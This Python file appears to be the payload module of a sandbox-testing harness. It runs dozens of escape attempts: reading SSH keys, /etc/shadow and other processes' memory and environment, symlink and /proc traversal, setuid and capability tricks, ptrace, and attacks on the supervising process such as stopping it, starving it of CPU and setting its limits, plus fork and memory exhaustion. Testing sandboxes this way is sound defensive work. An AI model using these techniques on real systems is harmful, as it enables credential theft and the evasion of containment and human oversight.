"""Runs inside a sandbox and tries one way out of it: `python payloads.py NAME FILE`, with what it must know in FILE.

Standard library only and no import of ours, because it runs where our code cannot be read. Whatever a payload finds it
prints; the harness looks for its random secrets in there. Every payload ends by itself, within a minute.
"""

import ctypes
import json
import os
import pathlib
import signal
import socket
import stat
import struct
import sys
import time
from collections.abc import Callable
from typing import Any

GIVEN: dict[str, Any] = json.loads(pathlib.Path(sys.argv[2]).read_text()) if __name__ == "__main__" else {}
GROUND = pathlib.Path(GIVEN.get("ground", "/nonexistent"))
OUT, OPEN, OUTSIDE, HOME = GROUND / "out", GROUND / "open", GROUND / "outside", GROUND / "home"
TOKEN: str = GIVEN.get("token", "")
NUMBERS: dict[str, int] = GIVEN.get("numbers", {})
LIBC = ctypes.CDLL(None, use_errno=True)
ENOUGH_SECONDS = 16.0


def syscall(name: str, *args: Any) -> int:
    if name not in NUMBERS:
        raise OSError(38, f"{name} is not known here")
    words = [ctypes.c_long(arg) if isinstance(arg, int) else arg for arg in args]
    answer: int = LIBC.syscall(ctypes.c_long(NUMBERS[name]), *words)
    if answer == -1:
        raise OSError(ctypes.get_errno(), f"{name} refused")
    return answer


def tell(what: object) -> None:
    sys.stdout.write(f"{what}\n")
    sys.stdout.flush()


def tell_file(path: object) -> None:
    with pathlib.Path(str(path)).open("rb", buffering=0) as file:
        tell(file.read(100_000).decode("utf-8", "replace"))


def attempt(*ways: Callable[[], object]) -> None:
    """Try each way on its own: the first refusal must not stop the rest."""
    for way in ways:
        try:
            way()
        except (OSError, ValueError) as error:
            tell(f"{getattr(way, '__name__', way)}: {error}")


def hold() -> None:
    """Tell the harness that the state to look at is reached, and wait until it looked."""
    (OUT / "ready").write_text("ready")
    end = time.monotonic() + ENOUGH_SECONDS
    while not (OUT / "go").exists() and time.monotonic() < end:
        time.sleep(0.02)


# -- files


def read_ssh_key() -> None:
    tell_file(HOME / ".ssh/id")


def list_home() -> None:
    tell([path.name for path in HOME.rglob("*")])


def read_hidden_in_a_readable_folder() -> None:
    tell_file(OPEN / "hidden/token")


def list_hidden() -> None:
    tell([path.name for path in (OPEN / "hidden").iterdir()])


def read_through_a_symlink() -> None:
    (OUT / "key").symlink_to(HOME / ".ssh/id")
    tell_file(OUT / "key")


def read_with_dots() -> None:
    attempt(
        lambda: tell_file(f"{OPEN}/../home/.ssh/id"),
        lambda: tell_file(f"{OUT}/../../{GROUND.name}/home/.ssh/id"),
        lambda: tell_file(f"/proc/self/cwd/../{GROUND.name}/home/.ssh/id"),
    )


def read_through_proc() -> None:
    for pid in ("self", "1", os.getppid(), GIVEN["victim"], GIVEN["runtime"]):
        attempt(
            lambda pid=pid: tell_file(f"/proc/{pid}/root{HOME}/.ssh/id"),  # type: ignore[misc]
            lambda pid=pid: tell_file(f"/proc/{pid}/cwd/home/.ssh/id"),  # type: ignore[misc]
        )


def read_by_file_handle() -> None:
    kind, handle = GIVEN["handle"]
    data = bytes.fromhex(handle)
    held = ctypes.create_string_buffer(struct.pack("Ii", len(data), kind) + data)
    for place in (OUT, OPEN, pathlib.Path("/usr"), pathlib.Path("/")):
        try:
            mount = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
            found = syscall("open_by_handle_at", mount, held, os.O_RDONLY)
        except OSError as error:
            tell(error)
            continue
        tell(os.read(found, 1000))


def read_the_shadow_file() -> None:
    tell_file("/etc/shadow")


def make_a_file_outside() -> None:
    (OUTSIDE / "new").write_text(TOKEN)


def change_a_file_outside() -> None:
    (OUTSIDE / "victim").write_text(TOKEN)


def truncate_a_file_outside() -> None:
    os.truncate(OUTSIDE / "victim", 0)


def remove_a_file_outside() -> None:
    (OUTSIDE / "victim").unlink()


def write_through_a_symlink() -> None:
    (OUT / "link").symlink_to(OUTSIDE / "victim")
    (OUT / "link").write_text(TOKEN)


def write_through_a_symlinked_folder() -> None:
    (OUT / "folder").symlink_to(OUTSIDE)
    (OUT / "folder/new").write_text(TOKEN)


def pull_a_file_in_by_hard_link() -> None:
    os.link(OUTSIDE / "victim", OUT / "hard")
    (OUT / "hard").write_text(TOKEN)


def pull_a_file_in_by_rename() -> None:
    (OUTSIDE / "victim").rename(OUT / "moved")


def write_what_may_only_be_read() -> None:
    attempt(lambda: (OPEN / "file").write_text(TOKEN), lambda: (OPEN / "new").write_text(TOKEN))


def change_attributes_outside() -> None:
    victim = OUTSIDE / "victim"
    attempt(lambda: victim.chmod(0o666), lambda: os.utime(victim, (1, 1)))


def mark_a_file_outside() -> None:
    attempt(lambda: os.setxattr(OUTSIDE / "victim", "user.attack", TOKEN.encode()))


def watch_a_folder_outside() -> None:
    """inotify tells when somebody uses a file there."""
    if LIBC.inotify_add_watch(LIBC.inotify_init1(0), os.fsencode(OUTSIDE), 0xFFF) != -1:
        tell("REACHED a watch")


def change_attributes_of_what_may_only_be_read() -> None:
    attempt(lambda: (OPEN / "file").chmod(0o666), lambda: os.utime(OPEN / "file", (1, 1)))


def make_a_device() -> None:
    os.mknod(OUT / "device", 0o20666, os.makedev(1, 1))


# -- setuid


def setuid_by_chmod() -> None:
    for name, mode in (("suid", 0o4755), ("sgid", 0o2755), ("all", 0o4777)):
        (OUT / name).write_bytes(b"#!/bin/sh\n")
        attempt(lambda name=name, mode=mode: (OUT / name).chmod(mode))  # type: ignore[misc]


def setuid_by_descriptor() -> None:
    file = os.open(OUT / "fchmod", os.O_CREAT | os.O_RDWR, 0o755)
    attempt(
        lambda: os.fchmod(file, 0o4755),
        lambda: syscall("fchmodat2", file, b"", 0o4755, 0x1000),
        lambda: pathlib.Path(f"/proc/self/fd/{file}").chmod(0o4755),
    )


def setuid_at_creation() -> None:
    os.umask(0)
    at = -100
    path = {name: os.fsencode(OUT / name) for name in ("open", "creat", "openat", "openat2", "mknod", "mkdir")}
    how = ctypes.create_string_buffer(struct.pack("QQQ", os.O_CREAT | os.O_RDWR, 0o4755, 0))
    attempt(
        lambda: syscall("open", path["open"], os.O_CREAT | os.O_RDWR, 0o4755),
        lambda: syscall("creat", path["creat"], 0o4755),
        lambda: syscall("openat", at, path["openat"], os.O_CREAT | os.O_RDWR, 0o4755),
        lambda: syscall("openat2", at, path["openat2"], how, 24),
        lambda: syscall("mknodat", at, path["mknod"], stat.S_IFREG | 0o4755, 0),
        lambda: syscall("mkdirat", at, path["mkdir"], 0o2777),
    )


def setgid_folder() -> None:
    (OUT / "folder").mkdir()
    (OUT / "folder").chmod(0o2777)
    (OUT / "folder/inside").mkdir()


def give_a_file_capabilities() -> None:
    (OUT / "capable").write_text("#!/bin/sh\n")
    capabilities = struct.pack("<5I", 0x02000001, 0xFFFFFFFF, 0, 0, 0)
    attempt(lambda: os.setxattr(OUT / "capable", "security.capability", capabilities))


# -- network and sockets


def connect_by_tcp() -> None:
    with socket.create_connection(("127.0.0.1", GIVEN["tcp"]), timeout=5) as client:
        client.sendall(TOKEN.encode())


def connect_by_tcp6() -> None:
    with socket.create_connection(("::1", GIVEN["tcp6"]), timeout=5) as client:
        client.sendall(TOKEN.encode())


def send_by_udp() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(TOKEN.encode(), ("127.0.0.1", GIVEN["udp"]))


def send_by_fast_open() -> None:
    """TCP Fast Open connects within sendto, which rules for connect do not see."""
    with socket.socket() as sender:
        sender.sendto(TOKEN.encode(), 0x20000000, ("127.0.0.1", GIVEN["tcp"]))


def connect_by_mptcp() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as client:
        client.settimeout(5)
        client.connect(("127.0.0.1", GIVEN["tcp"]))
        client.sendall(TOKEN.encode())


def listen_for_the_outside() -> None:
    with socket.create_server(("127.0.0.1", GIVEN["free"])):
        hold()


def _unix(kind: int, address: str) -> None:
    with socket.socket(socket.AF_UNIX, kind) as client:
        if kind == socket.SOCK_DGRAM:
            client.sendto(TOKEN.encode(), address)
        else:
            client.connect(address)
            client.sendall(TOKEN.encode())


def connect_to_an_abstract_socket() -> None:
    _unix(socket.SOCK_STREAM, "\0" + GIVEN["abstract"])


def send_to_an_abstract_socket() -> None:
    _unix(socket.SOCK_DGRAM, "\0" + GIVEN["abstract_dgram"])


def connect_to_a_socket_outside() -> None:
    _unix(socket.SOCK_STREAM, str(OUTSIDE / "stream"))


def send_to_a_socket_outside() -> None:
    _unix(socket.SOCK_DGRAM, str(OUTSIDE / "dgram"))


def connect_to_a_socket_in_a_readable_folder() -> None:
    _unix(socket.SOCK_STREAM, str(OPEN / "stream"))


def send_to_a_socket_in_a_readable_folder() -> None:
    _unix(socket.SOCK_DGRAM, str(OPEN / "dgram"))


def send_by_a_pair_to_a_socket() -> None:
    """A datagram socketpair needs no socket(), and its halves can send to any path."""
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    attempt(
        lambda: one.sendto(TOKEN.encode(), str(OUTSIDE / "dgram")),
        lambda: one.sendto(TOKEN.encode(), "\0" + GIVEN["abstract_dgram"]),
        lambda: one.connect(str(OPEN / "dgram")),
        lambda: one.send(TOKEN.encode()),
    )


def write_to_a_fifo_in_a_readable_folder() -> None:
    attempt(
        lambda: os.write(os.open(OPEN / "fifo", os.O_WRONLY | os.O_NONBLOCK), TOKEN.encode()),
        lambda: os.write(os.open(OPEN / "fifo", os.O_RDWR | os.O_NONBLOCK), TOKEN.encode()),
    )


def read_from_a_fifo_in_a_readable_folder() -> None:
    """The harness feeds it while we hold."""
    descriptor = os.open(OPEN / "fifo", os.O_RDONLY | os.O_NONBLOCK)
    hold()
    tell(os.read(descriptor, 1000))


def odd_socket_families() -> None:
    """Everything that is neither TCP nor UDP over IP nor a unix socket."""
    opened = []
    for family in range(2, 46):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            if family in {socket.AF_INET, socket.AF_INET6} and kind in {socket.SOCK_STREAM, socket.SOCK_DGRAM}:
                continue
            for protocol in (0, 1, 255):
                try:
                    socket.socket(family, kind, protocol).close()
                except OSError:
                    continue
                opened.append(f"family-{family}-kind-{int(kind)}-protocol-{protocol}")
    for family in (socket.AF_INET, socket.AF_INET6):  # a ping socket, SCTP, MPTCP, UDP-Lite
        for kind, protocol in ((socket.SOCK_DGRAM, 1), (socket.SOCK_STREAM, 132), (socket.SOCK_DGRAM, 136)):
            try:
                socket.socket(family, kind, protocol).close()
            except OSError:
                continue
            opened.append(f"family-{int(family)}-kind-{int(kind)}-protocol-{protocol}")
    tell("REACHED " + " ".join(opened) if opened else "none")


# -- other processes


def signal_a_process_outside() -> None:
    os.kill(GIVEN["victim"], signal.SIGUSR1)


def signal_a_process_by_pidfd() -> None:
    signal.pidfd_send_signal(os.pidfd_open(GIVEN["victim"]), signal.SIGUSR1)


def signal_by_file_owner() -> None:
    """SIGIO of a descriptor goes wherever F_SETOWN says."""
    import fcntl

    one, two = socket.socketpair()
    fcntl.fcntl(one, fcntl.F_SETOWN, GIVEN["victim"])
    fcntl.fcntl(one, 10, signal.SIGUSR1)  # F_SETSIG
    fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    two.send(b"x")
    time.sleep(0.2)


def trace_a_process_outside() -> None:
    syscall("ptrace", 0x4206, GIVEN["victim"], 0, 0)
    hold()


def read_memory_outside() -> None:
    address = GIVEN["address"]
    held = ctypes.create_string_buffer(256)
    mine = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(held), 256))
    theirs = ctypes.create_string_buffer(struct.pack("QQ", address, 256))

    def by_file() -> None:
        with pathlib.Path(f"/proc/{GIVEN['victim']}/mem").open("rb", buffering=0) as memory:
            memory.seek(address)
            tell(memory.read(256))

    def by_call() -> None:
        syscall("process_vm_readv", GIVEN["victim"], mine, 1, theirs, 1, 0)
        tell(held.raw)

    attempt(by_file, by_call)


def read_the_environment_of_others() -> None:
    for folder in pathlib.Path("/proc").glob("[0-9]*"):
        attempt(lambda folder=folder: tell_file(folder / "environ"))  # type: ignore[misc]


def read_the_arguments_of_others() -> None:
    for folder in pathlib.Path("/proc").glob("[0-9]*"):
        if folder.name != str(os.getpid()):
            attempt(lambda folder=folder: tell_file(folder / "cmdline"))  # type: ignore[misc]


def read_an_open_file_of_others() -> None:
    descriptor = GIVEN["victim_file"]
    attempt(
        lambda: tell_file(f"/proc/{GIVEN['victim']}/fd/{descriptor}"),
        lambda: tell(os.read(syscall("pidfd_getfd", os.pidfd_open(GIVEN["victim"]), descriptor, 0), 1000)),
    )


def limit_a_process_outside() -> None:
    limit = ctypes.create_string_buffer(struct.pack("QQ", 33, 33))
    syscall("prlimit64", GIVEN["victim"], 7, limit, 0)


def schedule_a_process_outside() -> None:
    victim = GIVEN["victim"]
    attempt(
        lambda: os.sched_setscheduler(victim, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setaffinity(victim, {max(os.sched_getaffinity(0))}),
        lambda: os.setpriority(os.PRIO_PROCESS, victim, 19),
        lambda: syscall("ioprio_set", 1, victim, 3 << 13),
    )


# -- the process that supervises us


def _supervisors() -> list[int]:
    """Our parents up to the runtime that the harness started, and the first process of a pid namespace.

    Never the harness above it, and never the machine's own first process.
    """
    found, pid = [1] if _in_pid_namespace() else [], os.getppid()
    while pid > 1 and len(found) < 8:
        found.append(pid)
        if pid == GIVEN["runtime"]:
            break
        try:
            fields = pathlib.Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
        except OSError:
            break
        pid = int(fields[1])
    return found


def _in_pid_namespace() -> bool:
    try:
        started = pathlib.Path("/proc/1/stat").read_text().rpartition(")")[2].split()[19]
    except OSError:
        return False
    return bool(started != GIVEN["init"])


def schedule_the_supervisor() -> None:
    for pid in _supervisors():
        attempt(
            lambda pid=pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),  # type: ignore[misc]
            lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19),  # type: ignore[misc]
            lambda pid=pid: syscall("ioprio_set", 1, pid, 3 << 13),  # type: ignore[misc]
        )
    attempt(
        lambda: os.setpriority(os.PRIO_PGRP, os.getpgid(os.getppid()), 19),
    )
    hold()


def pin_the_supervisor() -> None:
    for pid in _supervisors():
        attempt(lambda pid=pid: os.sched_setaffinity(pid, {max(os.sched_getaffinity(0))}))  # type: ignore[misc]
    hold()


def limit_the_supervisor() -> None:
    """A CPU time of no seconds would end it at its next step: 77 descriptors show the same without harm."""
    limit = ctypes.create_string_buffer(struct.pack("QQ", 77, 77))
    for pid in _supervisors():
        attempt(lambda pid=pid: syscall("prlimit64", pid, 7, limit, 0))  # type: ignore[misc]
    hold()


def stop_the_supervisor() -> None:
    for pid in _supervisors():
        attempt(
            lambda pid=pid: os.kill(pid, signal.SIGSTOP),  # type: ignore[misc]
            lambda pid=pid: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGSTOP),  # type: ignore[misc]
        )
    hold()


def trace_the_supervisor() -> None:
    for pid in _supervisors():
        attempt(lambda pid=pid: syscall("ptrace", 0x4206, pid, 0, 0))  # type: ignore[misc]
    hold()


def offer_the_supervisor_to_the_oom_killer() -> None:
    for pid in _supervisors():
        attempt(lambda pid=pid: pathlib.Path(f"/proc/{pid}/oom_score_adj").write_text("999"))  # type: ignore[misc]
    hold()


def read_the_supervisor() -> None:
    """The environment, arguments, memory and open files of the starter and the supervisor."""
    for pid in _supervisors():
        if pid != GIVEN["runtime"]:
            attempt(lambda pid=pid: tell_file(f"/proc/{pid}/cmdline"))  # type: ignore[misc]
            _tell_process(pid)


def read_the_runtime() -> None:
    """The same of the person's own process that started the run, but for its arguments."""
    _tell_process(GIVEN["runtime"])


def read_the_arguments_of_the_runtime() -> None:
    attempt(lambda: tell_file(f"/proc/{GIVEN['runtime']}/cmdline"))


def _tell_process(pid: int) -> None:
    attempt(lambda: tell_file(f"/proc/{pid}/environ"), lambda: _tell_memory(pid))
    for number in range(12):
        try:
            found = pathlib.Path(f"/proc/{pid}/fd/{number}").readlink()
        except OSError:
            continue
        tell(found)


def _tell_memory(pid: int) -> None:
    with pathlib.Path(f"/proc/{pid}/mem").open("rb", buffering=0) as memory:
        for line in pathlib.Path(f"/proc/{pid}/maps").read_text().splitlines():
            if "[stack]" in line or "[heap]" in line:
                start, end = (int(word, 16) for word in line.split()[0].split("-"))
                memory.seek(start)
                tell(memory.read(min(end - start, 1 << 20)))


# -- IPC


def read_shared_memory() -> None:
    _shared(write=False)


def write_shared_memory() -> None:
    _shared(write=True)


def _shared(*, write: bool) -> None:
    LIBC.shmat.restype = ctypes.c_void_p
    at = LIBC.shmat(GIVEN["shm"], None, 0)
    if at in {None, ctypes.c_void_p(-1).value}:
        raise OSError(ctypes.get_errno(), "shmat refused")
    if write:
        ctypes.memmove(at + 512, TOKEN.encode(), len(TOKEN))
    else:
        tell(ctypes.string_at(at, 256))


def send_to_a_message_queue() -> None:
    text = struct.pack("l", 1) + TOKEN.encode()
    if LIBC.msgsnd(GIVEN["msg"], text, len(text) - 8, 0o4000) != 0:
        raise OSError(ctypes.get_errno(), "msgsnd refused")


def change_a_semaphore() -> None:
    if LIBC.semctl(GIVEN["sem"], 0, 16, 77) != 0:  # SETVAL
        raise OSError(ctypes.get_errno(), "semctl refused")


def read_posix_shared_memory() -> None:
    tell_file(f"/dev/shm/{GIVEN['posix']}")


def send_to_a_posix_queue() -> None:
    queue = syscall("mq_open", GIVEN["posix"].encode(), os.O_WRONLY | os.O_NONBLOCK, 0, 0)
    syscall("mq_timedsend", queue, TOKEN.encode(), len(TOKEN), 0, 0)


# -- the kernel and the machine; what they reach they tell themselves


def write_a_kernel_setting() -> None:
    setting = pathlib.Path("/proc/sys/kernel/core_pattern")
    setting.write_text(setting.read_text())  # the value that it has anyway
    tell("REACHED core_pattern")


def join_another_cgroup() -> None:
    for name in ("cgroup.procs", "unified/cgroup.procs", "pids/cgroup.procs", "memory/cgroup.procs"):
        attempt(lambda name=name: _join(pathlib.Path("/sys/fs/cgroup") / name))  # type: ignore[misc]


def _join(file: pathlib.Path) -> None:
    with file.open("r+") as group:
        group.write("0")
    tell(f"REACHED {file}")


def open_a_disk() -> None:
    for name in ("vda", "sda", "nvme0n1", "mem", "kmsg", "kvm", "fuse", "net/tun", "loop-control"):
        try:
            os.close(os.open(f"/dev/{name}", os.O_RDONLY | os.O_NONBLOCK))
        except OSError:
            continue
        tell(f"REACHED /dev/{name}")


def become_somebody_else() -> None:
    os.setuid(0 if os.getuid() else 1)
    tell(f"REACHED uid {os.getuid()}")


def change_root() -> None:
    os.chroot(OUT)
    tell("REACHED a root of its own")


def make_namespaces() -> None:
    """Namespaces of its own give it capabilities, and with them most of the kernel's past holes."""
    flags = {"user": 0x10000000, "mount": 0x00020000, "net": 0x40000000, "user+net": 0x50000000}
    for name, flag in flags.items():
        pid = os.fork()
        if pid == 0:
            os._exit(0 if LIBC.unshare(flag) == 0 else 1)
        if os.waitpid(pid, 0)[1] == 0:
            tell(f"REACHED {name} namespace")


def mount_something() -> None:
    def mounted() -> int:
        (OUT / "mount").mkdir(exist_ok=True)
        return int(LIBC.mount(b"none", os.fsencode(OUT / "mount"), b"tmpfs", 0, None))

    if mounted() == 0:
        tell("REACHED a mount")
        LIBC.umount2(os.fsencode(OUT / "mount"), 2)


def call_what_should_not_be_there() -> None:
    """Calls that no skill needs; with an argument that makes them fail where they are let through."""
    for name in GIVEN["refused"]:
        if name not in NUMBERS:
            continue
        pid = os.fork()
        if pid == 0:
            answer = LIBC.syscall(ctypes.c_long(NUMBERS[name]), 0x10000000, 0, 0, 0, 0)
            os._exit(0 if answer != -1 or ctypes.get_errno() not in {1, 38} else 1)
        if os.waitpid(pid, 0)[1] == 0:
            tell(f"REACHED {name}")


# -- limits


def _spin(seconds: float) -> None:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        pass


def _ignore_signals() -> None:
    for which in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGCONT):
        signal.signal(which, signal.SIG_IGN)


def leave_a_daemon_behind() -> None:
    """Two forks, a session of its own, no streams: what outlives most wrappers."""
    _ignore_signals()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for number in range(3):
                os.dup2(null, number)
            time.sleep(ENOUGH_SECONDS)
        os._exit(0)


def ignore_the_deadline() -> None:
    _ignore_signals()
    for _ in range(5):
        if os.fork() == 0:
            os.setsid()
            break
    time.sleep(ENOUGH_SECONDS)


def starve_the_supervisor() -> None:
    """Take the processor away from whoever should end us: idle class, one core, and 450 spinners for 12 seconds."""
    _ignore_signals()
    for pid in _supervisors():
        attempt(
            lambda pid=pid: os.sched_setaffinity(pid, {0}),  # type: ignore[misc]
            lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19),  # type: ignore[misc]
            lambda pid=pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),  # type: ignore[misc]
        )
    for _ in range(449):
        try:
            if os.fork() == 0:  # in the same session: the kernel's autogroup would give each session its own share
                break
        except OSError:
            break
    (OUT / "ready").write_text("ready")
    _spin(12)


def cripple_the_supervisor() -> None:
    """Without descriptors and processor time it can neither find nor end us."""
    for _ in range(5):
        if os.fork() == 0:
            os.setsid()
            break
    _ignore_signals()
    for pid in _supervisors():
        for resource, most in ((7, 3), (6, 0), (0, 0)):  # files, processes, processor time
            limit = ctypes.create_string_buffer(struct.pack("QQ", most, most))
            attempt(lambda pid=pid, resource=resource, limit=limit: syscall("prlimit64", pid, resource, limit, 0))  # type: ignore[misc]
    time.sleep(ENOUGH_SECONDS)


def start_too_many_processes() -> None:
    """300 where 40 are allowed."""
    for _ in range(300):
        try:
            if os.fork() == 0:
                time.sleep(ENOUGH_SECONDS)
                os._exit(0)
        except OSError:
            break
    hold()


def take_too_much_memory() -> None:
    """700 MB in one process where 128 are allowed."""
    held = []
    for _ in range(14):
        piece = bytearray(50 << 20)
        piece[::4096] = b"x" * len(piece[::4096])
        held.append(piece)
    hold()


def take_too_much_memory_together() -> None:
    """700 MB in seven processes where 128 are allowed."""
    for _ in range(7):
        if os.fork() == 0:
            piece = bytearray(100 << 20)
            piece[::4096] = b"x" * len(piece[::4096])
            time.sleep(ENOUGH_SECONDS)
            os._exit(0)
    time.sleep(1)
    hold()


def main() -> None:
    tell("STARTED")
    payload: Callable[[], None] = globals()[sys.argv[1]]
    try:
        payload()
    except (OSError, ValueError, MemoryError) as error:
        tell(f"stopped: {type(error).__name__} {error}")


if __name__ == "__main__":
    main()
